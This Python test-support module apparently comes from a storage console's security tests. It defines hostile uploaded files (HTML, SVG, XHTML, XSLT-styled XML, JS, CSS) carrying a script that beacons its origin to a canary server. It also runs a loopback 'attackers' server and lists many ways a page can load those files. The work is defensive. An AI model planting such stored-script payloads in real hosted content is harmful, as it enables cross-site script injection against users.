"""What attacks the console: hostile files, a server without protection, the marks that are left.

Lives here: the files with the headers that somebody stored with them, the attackers' own server,
the ways in which a page brings a file in. Must not live here: what is expected (test_attacks.py
here and in tests/proof/console). The attackers' server sends the same files without the console's
headers, so each attack can be seen to work there.
"""

from __future__ import annotations

import base64
import hashlib
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

from strongroom.testing.ports import HOST, free_port

CONTAINER = "public"
# By RFC 6455: with it a server proves that it speaks WebSocket.
_SOCKET_ID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
SECRET = "what the person may see"

# It says where it runs, and whether it can reach the window that opened or framed it.
_MARK = """
(() => {
  const reaches = (one) => {
    try { return Boolean(one) && one !== self && !one.closed; } catch { return false; }
  };
  const facts = new URLSearchParams({
    file: "FILE", origin: self.origin, opener: reaches(self.opener), parent: reaches(self.parent),
  });
  try { self.localStorage.setItem("ran", facts); } catch {}
  try { self.ran = String(facts); } catch {}
  fetch(`CANARY/mark?${facts}`, { mode: "no-cors", keepalive: true });
})();
"""
_HTML = "<!DOCTYPE html><title>t</title><body><script>MARK</script></body>"
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>MARK</script></svg>'
_XHTML = (
    '<?xml version="1.0"?><root><h:script xmlns:h="http://www.w3.org/1999/xhtml">MARK</h:script>'
    "</root>"
)
_XSLT = (
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?>'
    "<!DOCTYPE d [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]>"
    '<d><xsl:stylesheet id="s" version="1.0"'
    ' xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>'
    "MARK</script></body></html></xsl:template></xsl:stylesheet></d>"
)
_CSS = "body { background: url(CANARY/mark?file=FILE) }"
_SHARED = "if (!self.document) self.postMessage?.(0);"


@dataclass(frozen=True, slots=True)
class HostileFile:
    """A file as an attacker stores it.

    Attributes:
        text: with MARK, FILE and CANARY, which `body` replaces.
        headers: stored with it, beside its type.
    """

    name: str
    media_type: str
    text: str
    headers: Mapping[str, str] = field(default_factory=dict)

    def body(self, canary: str, name: str) -> bytes:
        """Return its bytes.

        Arguments:
            canary: the origin that sees its marks.
            name: under which it marks.
        """
        text = self.text.replace("MARK", _escaped(_MARK) if self.is_xml else _MARK)
        return text.replace("FILE", name).replace("CANARY", canary).encode()

    @property
    def is_xml(self) -> bool:
        """Whether `&` and `<` in its script must be escaped."""
        return "xml" in self.media_type

    @property
    def stored_headers(self) -> dict[str, str]:
        """The headers of a Put Blob that store it."""
        stored = {f"x-ms-blob-{name.lower()}": value for name, value in self.headers.items()}
        kind = {"x-ms-blob-type": "BlockBlob", "x-ms-blob-content-type": self.media_type}
        return {**kind, **stored}


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;")


_INLINE = {"Content-Disposition": "inline"}
_KEPT = {"Content-Disposition": "inline", "Cache-Control": "public, max-age=31536000, immutable"}
DOCUMENTS = (
    HostileFile("page.html", "text/html", _HTML, _KEPT),
    HostileFile("named.html", "text/html", _HTML, {"Content-Disposition": 'inline; filename="a"'}),
    HostileFile("picture.svg", "image/svg+xml", _SVG, _INLINE),
    HostileFile("page.xhtml", "application/xhtml+xml", _XHTML, _INLINE),
    HostileFile("plain.xml", "text/xml", _XHTML, _INLINE),
    HostileFile("styled.xml", "application/xml", _XSLT, _INLINE),
    HostileFile("coded.html", "text/html", _HTML, {**_INLINE, "Content-Encoding": "identity"}),
)
SCRIPT = HostileFile("code.js", "text/javascript", f"{_MARK}{_SHARED}", _KEPT)
STYLE = HostileFile("look.css", "text/css", _CSS, _KEPT)
FILES = (*DOCUMENTS, SCRIPT, STYLE)

# Each time another address: browsers load a module once only.
_WAIT = """
for (const one of document.querySelectorAll(".attack")) one.remove();
url += (url.includes("?") ? "&" : "?") + "once=" + Math.random();
const ended = (one) => new Promise((resolve) => {
  for (const event of ["load", "error", "message"]) one.addEventListener(event, resolve);
  setTimeout(resolve, LONGEST_MS);
});
const put = (name, values) => {
  const one = Object.assign(document.createElement(name), values, { className: "attack" });
  const waiting = ended(one);
  document.body.append(one);
  return waiting;
};
"""
_LONGEST_MS = 1500

# What a page does with the address of a file; each ends when the browser says that it is over.
SCRIPT_WAYS = {
    "script": 'await put("script", { src: url });',
    "module": 'await put("script", { src: url, type: "module" });',
    "import": "await import(url).catch(() => undefined);",
    "preload": """
        await put("link", { rel: "preload", as: "script", href: url });
        await put("script", { src: url });""",
    "prefetch": """
        await put("link", { rel: "prefetch", href: url });
        await put("script", { src: url });""",
    "worker": "await ended(new Worker(url));",
    "module worker": 'await ended(new Worker(url, { type: "module" }));',
    "shared worker": "await ended(new SharedWorker(url));",
    "service worker": """
        const found = await navigator.serviceWorker.register(url).catch(() => null);
        await found?.unregister();""",
}
# Browsers let no page of another origin start these, whatever the server says.
OWN_ORIGIN_WAYS = ("worker", "module worker", "shared worker", "service worker")
STYLE_WAYS = {
    "stylesheet": 'await put("link", { rel: "stylesheet", href: url });',
    "style import": """
        const one = document.createElement("style");
        one.className = "attack";
        one.textContent = `@import url("${url}");`;
        document.head.append(one);
        await ended(one);""",
}
DOCUMENT_WAYS = {
    "iframe": 'await put("iframe", { src: url });',
    "object": 'await put("object", { data: url });',
    "embed": 'await put("embed", { src: url });',
    "frame": """
        const outer = Object.assign(document.createElement("iframe"), { className: "attack" });
        document.body.append(outer);
        outer.contentDocument.write(`<frameset cols="*"><frame src="${url}"></frameset>`);
        const waiting = ended(outer);
        outer.contentDocument.close();
        await waiting;""",
    "window": "window.opened = window.open(url); await new Promise((end) => setTimeout(end, 250));",
    "form": """
        const form = Object.assign(document.createElement("form"), {
          method: "POST", action: url, target: "_blank",
        });
        document.body.append(form);
        form.submit();
        await new Promise((end) => setTimeout(end, 250));""",
}


def attack(way: str) -> str:
    """Return a function of JavaScript that brings a file in by its address."""
    act = {**SCRIPT_WAYS, **STYLE_WAYS, **DOCUMENT_WAYS}[way]
    return f"async (url) => {{{_WAIT.replace('LONGEST_MS', str(_LONGEST_MS))}{act}}}"


class Attackers:
    """The attackers' own server: a page, the hostile files without protection, and their marks.

    Attributes:
        port: of this server, on loopback.
        marks: the parameters of each mark that came.
    """

    def __init__(self, port: int) -> None:
        self.port = port
        self.marks: list[dict[str, str]] = []
        self._lock = threading.Lock()

    @property
    def url(self) -> str:
        """Its origin, of the same site as the console."""
        return f"http://{HOST}:{self.port}"

    @property
    def other_site(self) -> str:
        """Its origin by another name, of another site than the console."""
        return f"http://localhost:{self.port}"

    def file_url(self, file: HostileFile) -> str:
        """Return the address of a file on this server."""
        return f"{self.url}/blob/{file.name}"

    def answer(self, target: str) -> tuple[int, dict[str, str], bytes]:
        """Return status, headers and body; the headers are those that somebody stored."""
        parts = urlsplit(target)
        if parts.path == "/mark":
            self._keep({name: values[0] for name, values in parse_qs(parts.query).items()})
            return 204, {"Cache-Control": "no-store"}, b""
        if parts.path == "/secret":
            return 200, {}, SECRET.encode()
        for file in FILES:
            if parts.path == f"/blob/{file.name}":
                headers = {"Content-Type": file.media_type, **file.headers}
                return 200, headers, file.body(self.url, file.name)
        return (
            200,
            {"Content-Type": "text/html"},
            b"<!DOCTYPE html><title>t</title><h1>Sign in</h1>",
        )

    def take(self) -> list[dict[str, str]]:
        """Return the marks that came since the last call."""
        with self._lock:
            taken, self.marks = self.marks, []
        return taken

    def _keep(self, mark: dict[str, str]) -> None:
        with self._lock:
            self.marks.append(mark)


@contextmanager
def attackers() -> Iterator[Attackers]:
    """Run the attackers' server."""
    found = Attackers(free_port())

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            if "Sec-WebSocket-Key" in self.headers:
                self._open_socket(self.headers["Sec-WebSocket-Key"])
                return
            status, headers, body = found.answer(self.path)
            self.send_response(status)
            open_to_all = {"Access-Control-Allow-Origin": "*", "Content-Length": str(len(body))}
            for name, value in {**headers, **open_to_all}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self.do_GET()

        def _open_socket(self, key: str) -> None:
            proof = hashlib.sha1(f"{key}{_SOCKET_ID}".encode(), usedforsecurity=False).digest()
            self.send_response(101)
            self.send_header("Upgrade", "websocket")
            self.send_header("Connection", "Upgrade")
            self.send_header("Sec-WebSocket-Accept", base64.b64encode(proof).decode())
            self.end_headers()
            self.close_connection = True

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer((HOST, found.port), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield found
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
